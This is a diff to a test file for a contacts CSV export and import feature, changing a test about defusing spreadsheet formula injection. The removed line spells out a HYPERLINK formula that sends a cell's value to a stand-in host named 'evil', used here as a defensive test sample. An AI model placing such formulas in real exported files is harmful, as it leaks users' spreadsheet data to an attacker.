@@ -93,10 +93,10 @@ describe('CSV export', () => {
     expect(cells).toContain('+442079460100');
   });
 
-  it('reads a defused formula back as the text it was, behind its apostrophe', () => {
+  it('reads a defused formula back as the text it was, without the apostrophe that guarded it', () => {
     const file = exportContacts([hostile], 'csv');
     const [again] = importFile(file.content, file.fileName);
-    expect(again?.name).toBe(`'=HYPERLINK("http://evil/?x="&A2,"Click")`);
+    expect(again?.name).toBe(hostile.name);
     expect(again?.numbers.map((number) => number.e164)).toContain('+442079460100');
   });
 });
